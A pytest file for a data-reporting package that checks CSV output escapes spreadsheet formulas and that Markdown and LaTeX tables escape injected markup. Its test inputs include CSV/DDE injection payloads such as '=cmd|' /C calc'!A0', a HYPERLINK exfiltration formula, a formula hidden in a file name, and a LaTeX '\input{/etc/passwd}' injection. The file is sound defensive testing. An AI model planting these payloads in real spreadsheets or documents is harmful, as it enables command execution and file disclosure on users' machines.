import csv
import re

import numpy as np
import pandas as pd
import pytest
from conftest import ROOT

from cryotome.core.tables import escape_formula, latex_text, markdown_text, read_csv, write_csv
from cryotome.data.downloads.receipts import VerifiedFile, write_receipt
from cryotome.report.tables.markup import to_latex, to_markdown

FORMULAS = [
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://x/"&A1)',
    "\t=1",
    "\r=1",
    " =1",
    "\n@SUM(1)",
    "＝1+1",
    "-inf+cmd",
]
PLAIN = [
    "-0.5",
    "+1",
    "-1e-05",
    "-",
    "-0.5 (-0.7 to -0.3)",
    "-0.50 ± 0.1",
    "-inf",
    "resnet50 + e2e",
]
PLAIN += ["a=b", "", "Übersicht", "0.25 µm/px", "−0.5"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text(tmp_path, text):
    assert escape_formula(text).startswith("'")
    write_csv(pd.DataFrame({text: [text, "a"], "n": [-1.5, 2]}), tmp_path / "a.csv")
    with open(tmp_path / "a.csv", encoding="utf-8", newline="") as file:
        for line in csv.reader(file):
            assert line[0].startswith("'") or line[0] == "a"
            assert len(line) == 2
    assert len((tmp_path / "a.csv").read_text(encoding="utf-8").splitlines()) == 3


@pytest.mark.parametrize("text", PLAIN)
def test_numbers_and_labels_stay(text):
    assert escape_formula(text) == text


def test_a_table_of_numbers_and_names_is_written_as_pandas_writes_it(tmp_path):
    table = pd.DataFrame(
        {
            "row": ["resnet50 + e2e", None],
            "value": [-0.5, np.nan],
            "n": pd.array([1, None], "Int64"),
            "yes": [True, False],
            "kind": pd.Categorical(["a", "b"]),
        }
    )
    write_csv(table, tmp_path / "a.csv", float_format="%.6g")
    table.to_csv(tmp_path / "b.csv", index=False, float_format="%.6g")
    assert (tmp_path / "a.csv").read_bytes() == (tmp_path / "b.csv").read_bytes()
    confused = pd.DataFrame([[1]], index=["=x"], columns=["@y"])
    write_csv(confused, tmp_path / "a.csv", index=True)
    assert (tmp_path / "a.csv").read_text(encoding="utf-8") == ",'@y\n'=x,1\n"
    same = pd.DataFrame([["=1", "=2"]], columns=["a", "a"])
    write_csv(same, tmp_path / "a.csv")
    assert (tmp_path / "a.csv").read_text(encoding="utf-8") == "a,a\n'=1,'=2\n"


def test_a_servers_file_names_are_no_formulas_in_a_receipt(tmp_path):
    held = [VerifiedFile("=cmd|' /C calc'!A0\n.png", 5, "md5:0", "md5", "fetched", "@SUM(1)")]
    write_receipt(held, tmp_path / "r.csv")
    line = (tmp_path / "r.csv").read_text(encoding="utf-8").splitlines()[1]
    assert line == "'=cmd|' /C calc'!A0 .png,5,md5:0,md5,fetched,'@SUM(1)"


def test_no_cell_leaves_its_table_in_markdown_or_latex():
    cells = pd.DataFrame({"Row": ["a|b\nc <img src=x>"], "Value": [r"50 % of \input{x} #1 $a^2~b"]})
    assert to_markdown(cells, "so\nit is").splitlines() == [
        "| Row | Value |",
        "| --- | --- |",
        r"| a\|b c \<img src=x> | 50 % of \\input{x} #1 \$a^2~b |",
        "",
        "so it is",
    ]
    said = to_latex(cells, r"}\input{/etc/passwd}%")
    assert (
        r"50 \% of \textbackslash{}input\{x\} \#1 \$a\textasciicircum{}2\textasciitilde{}b" in said
    )
    assert r"\caption{\}\textbackslash{}input\{/etc/passwd\}\%}" in said
    assert latex_text("0.91 ± 0.02") == r"0.91 $\pm$ 0.02"
    assert markdown_text("0.91 ± 0.02") == "0.91 ± 0.02"


def test_every_table_is_written_in_one_place():
    """Predictions hold numbers and ids that were checked before; they are large."""
    files = [*(ROOT / "workflow").rglob("*.py"), *(ROOT / "workflow").rglob("*.smk")]
    found = {
        path.stem for path in files if re.search(r"\.to_csv\(", path.read_text(encoding="utf-8"))
    }
    assert found == {"tables", "predictions"}


def test_names_that_look_like_numbers_or_nothing_stay_text(tmp_path):
    names = ["01", "1e5", "null", "nan", "NA", "true", "inf", "1.0"]
    table = pd.DataFrame(
        {"domain": names, "test_domain": names[::-1], "value": [0.5, *[np.nan] * 7]}
    )
    write_csv(table, tmp_path / "a.csv")
    read = read_csv(tmp_path / "a.csv")
    assert read["domain"].tolist() == names
    assert read["test_domain"].tolist() == names[::-1]
    assert read["value"].tolist()[0] == 0.5
    assert read["value"].isna().sum() == 7


def test_an_empty_cell_alone_holds_nothing(tmp_path):
    write_csv(pd.DataFrame({"scanner": ["", "null"], "note": [None, "n/a"]}), tmp_path / "a.csv")
    read = read_csv(tmp_path / "a.csv")
    assert read.isna().to_numpy().tolist() == [[True, True], [False, False]]


def test_results_are_read_in_one_place():
    """Elsewhere pandas would take a domain or slide called null for nothing, and 01 for 1."""
    for path in sorted((ROOT / "workflow").rglob("*.py")):
        for call in re.findall(r"pd\.read_csv\((?:[^()]|\([^()]*\))*\)", path.read_text("utf-8")):
            whole = "keep_default_na=False" in call
            assert whole or "usecols=" in call or 'sep="\\t"' in call, f"{path}: {call}"
